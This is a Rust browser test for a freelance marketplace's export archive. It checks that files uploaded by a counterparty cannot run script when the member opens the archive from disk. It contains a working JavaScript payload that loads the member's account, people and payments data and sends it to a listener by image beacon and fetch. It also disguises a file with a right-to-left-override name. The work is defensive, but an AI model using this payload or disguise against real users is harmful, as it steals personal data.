//! Attack: a counterparty's file in the member's export archive runs in the member's browser.
//!
//! The archive is opened from the file system. A page in it can load the viewer's data
//! (`../../viewer/data/account.js`, `people.js`, `payments.js`) with `<script src>` and send the
//! member's email, legal name and phone anywhere. So a freelancer delivers work to the client
//! who exports: a page named `Invoice-2026-12\u{202E}fdp.html` (it displays as
//! "…lmth.pdf"; stored as an older server let it), an SVG with script, an XHTML page, and pages
//! named `.pdf`, `.png` or with no extension (a browser sniffs them). The client exports; the
//! test unpacks the archive, opens the viewer in headless Chromium from `file://`, clicks every
//! file link and opens every unpacked file directly. Each payload, if it ran, would set
//! `document.title` and report to a loopback listener the test runs: the listener must receive
//! nothing and no title may change. A control page with the same payload, put into the
//! unpacked archive by the test itself, must reach the listener with the member's email: it
//! shows the attack works in this browser, so silence means the archive defended.
//!
//! Needs Chromium and chromedriver: run `scripts/ensure-chromium` first.

#[path = "support/browser.rs"]
mod browser;
#[path = "support/app.rs"]
mod demo_app;

use browser::{Browser, file_url};
use hiatus_service::demo::{DEMO_LOGINS, DEMO_PASSWORD};
use hiatus_service::market::Upload;
use serde_json::Value;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// Records one attack in the attack table `scripts/test` prints (the same rows as the web
/// crate's attack suite: `<target tmp>/attacks/*.tsv`, `attack\tbackend\tattempts\tsuccesses`).
fn report(attack: &str, backend: &str, attempts: u64, successes: u64) {
    hiatus_testkit::report_attack!(attack, backend, attempts, successes);
}

/// A loopback HTTP listener that keeps every request it gets.
fn listener() -> (u16, Arc<Mutex<Vec<String>>>) {
    let l = TcpListener::bind(("127.0.0.1", 0)).expect("a loopback listener");
    let port = l.local_addr().unwrap().port();
    let got = Arc::new(Mutex::new(Vec::new()));
    let kept = got.clone();
    std::thread::spawn(move || {
        for conn in l.incoming() {
            let Ok(mut s) = conn else { continue };
            let _ = s.set_read_timeout(Some(Duration::from_millis(500)));
            let mut buf = vec![0u8; 64 * 1024];
            let n = s.read(&mut buf).unwrap_or(0);
            kept.lock()
                .unwrap()
                .push(String::from_utf8_lossy(&buf[..n]).into_owned());
            let _ = s.write_all(
                b"HTTP/1.1 204 No Content\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n",
            );
        }
    });
    (port, got)
}

/// The payload: marks the page, reports that it ran, then loads the viewer's data (two folders
/// up, as from `files/<kind>/`) and sends it.
fn payload_js(port: u16) -> String {
    format!(
        r#"(function () {{
  document.title = 'PWNED';
  var base = 'http://127.0.0.1:{port}/';
  function send(what) {{
    try {{ new Image().src = base + 'img?' + encodeURIComponent(what.slice(0, 1500)); }} catch (e) {{}}
    try {{ fetch(base + 'post', {{ method: 'POST', mode: 'no-cors', body: what }}); }} catch (e) {{}}
  }}
  send('ran ' + location.href);
  window.HIATUS = {{ load: function (c, d) {{ send(c + ' ' + JSON.stringify(d)); }}, messages: function () {{}} }};
  var ns = document.documentElement.namespaceURI || 'http://www.w3.org/1999/xhtml';
  ['account', 'people', 'payments'].forEach(function (c) {{
    var s = document.createElementNS(ns, 'script');
    s.setAttribute('src', '../../viewer/data/' + c + '.js');
    s.setAttribute('href', '../../viewer/data/' + c + '.js');
    document.documentElement.appendChild(s);
  }});
}})();"#
    )
}

fn html(port: u16) -> Vec<u8> {
    format!(
        "<!doctype html><html><head><title>invoice</title></head><body><p>Invoice</p><script>{}</script></body></html>",
        payload_js(port)
    )
    .into_bytes()
}

fn svg(port: u16) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><script><![CDATA[{}]]></script></svg>",
        payload_js(port)
    )
    .into_bytes()
}

fn xhtml(port: u16) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\"?>\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>x</title></head><body><script><![CDATA[{}]]></script></body></html>",
        payload_js(port)
    )
    .into_bytes()
}

const RLO: char = '\u{202E}';

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_file_of_an_export_archive_runs_in_the_browser() {
    let app = demo_app::app().await;
    let h = &app.h;
    let (port, got) = listener();
    let actor = |email: &'static str| {
        let h = h.clone();
        async move {
            let l = h.login(email, DEMO_PASSWORD).await.unwrap();
            h.authenticate(&l.token).await.unwrap()
        }
    };
    // Ana, a freelancer, delivers work to Carla, the client who exports.
    let ana = actor(DEMO_LOGINS[0].email).await;
    let carla = actor(DEMO_LOGINS[2].email).await;
    let contract = h
        .my_contracts(&ana, 50, 0)
        .await
        .unwrap()
        .into_iter()
        .find(|c| c.client_id == carla.account && c.status.is_live())
        .expect("a live contract between Ana and Carla");

    let bidi_name = format!("Invoice-2026-12{RLO}fdp.html");
    // The name is refused at upload now ...
    let refused = h
        .submit_work(
            &ana,
            contract.id,
            "invoice",
            vec![Upload {
                name: bidi_name.clone(),
                content_type: "application/pdf".into(),
                bytes: html(port),
            }],
        )
        .await
        .expect_err("a file name with U+202E is refused");
    assert!(refused.to_string().contains("U+202E"), "{refused}");
    // So are display names and headlines that reorder themselves.
    for (display_name, headline) in [
        (Some(format!("Ana{RLO}anA")), None),
        (None, Some("Designer \u{2067}x\u{2069}".to_string())),
    ] {
        let e = h
            .update_profile(
                &ana,
                hiatus_store::accounts::ProfileText {
                    display_name,
                    headline,
                    bio: None,
                    away_message: None,
                },
            )
            .await
            .expect_err("a name with a bidirectional control is refused");
        assert!(e.to_string().contains("direction-changing"), "{e}");
    }
    // ... but an older server stored such names: the archive must still defend.
    let files: Vec<(&str, &str, Vec<u8>)> = vec![
        (
            "Invoice-2026-12-placeholder.html",
            "application/pdf",
            html(port),
        ),
        ("logo.svg", "image/svg+xml", svg(port)),
        ("page.xhtml", "application/xhtml+xml", xhtml(port)),
        ("statement.pdf", "application/pdf", html(port)),
        ("photo.png", "image/png", html(port)),
        ("notes", "text/plain", html(port)),
        (
            "report.pdf",
            "application/pdf",
            b"%PDF-1.4\n%\xE2\xE3\n".to_vec(),
        ),
    ];
    let (_, metas) = h
        .submit_work(
            &ana,
            contract.id,
            "the work",
            files
                .iter()
                .map(|(name, ct, bytes)| Upload {
                    name: name.to_string(),
                    content_type: ct.to_string(),
                    bytes: bytes.clone(),
                })
                .collect(),
        )
        .await
        .unwrap();
    {
        let mut tx = h.db.begin().await.unwrap();
        let n = hiatus_testkit::testing::tamper_file_name(
            &mut tx,
            &metas[0].id.to_string(),
            &bidi_name,
        )
        .await
        .unwrap();
        assert_eq!(n, 1);
        tx.commit().await.unwrap();
    }

    // Carla exports.
    let export = h
        .request_export_for(carla.account, None, None)
        .await
        .unwrap();
    h.build_export(&export.id, None).await.unwrap();
    let zip_bytes = h
        .blobs
        .get(&hiatus_service::export::archive_key(&export.id))
        .await
        .unwrap();
    let report_ok = hiatus_archive::verify(
        std::io::Cursor::new(&zip_bytes),
        Some(&h.export_public_key()),
    );
    assert!(report_ok.ok(), "{:?}", report_ok.problems);

    // Unpack it all; no name holds an invisible or reordering character.
    let site = tempfile::tempdir().unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(&zip_bytes)).unwrap();
    let mut uploaded = Vec::new();
    for i in 0..zip.len() {
        let mut f = zip.by_index(i).unwrap();
        let name = f.name().expect("a UTF-8 name").to_string();
        assert!(
            !name.chars().any(hiatus_domain::text::is_invisible_control),
            "{name:?} holds an invisible character"
        );
        let path = f.enclosed_name().expect("a safe name");
        let mut bytes = Vec::new();
        f.read_to_end(&mut bytes).unwrap();
        let out = site.path().join(&path);
        std::fs::create_dir_all(out.parent().unwrap()).unwrap();
        std::fs::write(&out, bytes).unwrap();
        if name.starts_with("files/submission/") {
            uploaded.push(name);
        }
    }
    let manifest: Value =
        serde_json::from_slice(&std::fs::read(site.path().join("manifest.json")).unwrap()).unwrap();
    let renamed = manifest["renamed"]
        .as_array()
        .expect("the manifest lists renamed files");
    let original = |path: &str| {
        renamed
            .iter()
            .find(|r| r["path"] == path)
            .map(|r| (r["original_name"].clone(), r["reason"].clone()))
    };
    for (path, name, reason) in [
        (
            "files/submission/Invoice-2026-12fdp.html.txt",
            bidi_name.as_str(),
            "active_extension",
        ),
        (
            "files/submission/logo.svg.txt",
            "logo.svg",
            "active_extension",
        ),
        (
            "files/submission/page.xhtml.txt",
            "page.xhtml",
            "active_extension",
        ),
        (
            "files/submission/statement.pdf.txt",
            "statement.pdf",
            "active_content",
        ),
        (
            "files/submission/photo.png.txt",
            "photo.png",
            "active_content",
        ),
        ("files/submission/notes.txt", "notes", "active_content"),
    ] {
        assert!(uploaded.iter().any(|u| u == path), "{path} in {uploaded:?}");
        assert_eq!(
            original(path),
            Some((Value::from(name), Value::from(reason))),
            "{path}"
        );
    }
    assert!(
        uploaded.iter().any(|u| u == "files/submission/report.pdf"),
        "{uploaded:?}"
    );
    assert_eq!(original("files/submission/report.pdf"), None);

    // The control: the same payload as an active page in the unpacked archive reaches the
    // listener with Carla's email.
    let b = Browser::start().await;
    let control = site.path().join("files/submission/control.html");
    std::fs::write(&control, html(port)).unwrap();
    b.driver().goto(file_url(&control).as_str()).await.unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while !got.lock().unwrap().iter().any(|r| r.contains("carla")) {
        assert!(
            std::time::Instant::now() < deadline,
            "the control page never reached the listener: the test cannot see an attack; got {:?}",
            got.lock().unwrap()
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(b.js("return document.title;").await, "PWNED");
    std::fs::remove_file(&control).unwrap();
    tokio::time::sleep(Duration::from_millis(500)).await;
    got.lock().unwrap().clear();

    let mut attempts = 0u64;
    let mut successes = 0u64;
    let mut heard = 0usize;
    let mut check = |title: Value, what: &str, attempts: &mut u64, successes: &mut u64| {
        *attempts += 1;
        let now = got.lock().unwrap().len();
        if title == "PWNED" || now > heard {
            eprintln!(
                "{what}: the payload ran (title {title}, requests {:?})",
                &got.lock().unwrap()[heard..]
            );
            *successes += 1;
        }
        heard = now;
    };

    // Every file link of the viewer, clicked.
    browser::open_viewer(&b, site.path()).await;
    browser::show_section(&b, "submissions").await;
    let links = b
        .js("return Array.from(document.querySelectorAll('a.file-link')).map(function (a) {
               return { href: a.getAttribute('href'), text: a.textContent,
                        download: a.getAttribute('download'), renamed: a.getAttribute('data-renamed'),
                        warning: !!(a.parentNode.querySelector('.warning')) };
             });")
        .await;
    let links = links.as_array().unwrap().clone();
    let payload_links: Vec<&Value> = links
        .iter()
        .filter(|l| l["href"].as_str().is_some_and(|h| h.ends_with(".txt")))
        .collect();
    assert!(payload_links.len() >= 6, "{links:?}");
    for l in &payload_links {
        assert!(
            l["download"].is_string() && l["renamed"].is_string() && l["warning"] == true,
            "{l}"
        );
    }
    let shown = links
        .iter()
        .find(|l| l["href"].as_str() == Some("files/submission/Invoice-2026-12fdp.html.txt"));
    assert_eq!(
        shown.map(|l| l["text"].clone()),
        Some(Value::from("Invoice-2026-12[U+202E]fdp.html")),
        "the original name is shown with its invisible character written out"
    );
    let main = b.driver().window().await.unwrap();
    for (i, l) in links.iter().enumerate() {
        // The one inert upload opens Chromium's PDF viewer, which runs nothing of the file.
        if l["href"] == "files/submission/report.pdf" {
            continue;
        }
        b.js_with(
            "document.querySelectorAll('a.file-link')[arguments[0]].click(); return true;",
            vec![Value::from(i)],
        )
        .await;
        tokio::time::sleep(Duration::from_millis(1500)).await;
        // Whatever opened (a tab for a link without `download`), its title.
        let mut title = Value::Null;
        for w in b.driver().windows().await.unwrap() {
            b.driver().switch_to_window(w.clone()).await.unwrap();
            let t = b.js("return document.title;").await;
            if t == "PWNED" {
                title = t;
            }
            if w != main {
                b.driver().close_window().await.unwrap();
            }
        }
        b.driver().switch_to_window(main.clone()).await.unwrap();
        check(
            title,
            &format!("clicking {}", l["href"]),
            &mut attempts,
            &mut successes,
        );
    }

    // Every unpacked file, opened directly under its archive name.
    for name in &uploaded {
        b.driver()
            .goto(file_url(&site.path().join(name)).as_str())
            .await
            .unwrap();
        tokio::time::sleep(Duration::from_millis(1500)).await;
        let title = b.js("return document.title;").await;
        check(
            title,
            &format!("opening {name}"),
            &mut attempts,
            &mut successes,
        );
    }
    b.quit().await;
    report(
        "archive file runs in the browser",
        "sqlite",
        attempts,
        successes,
    );
}
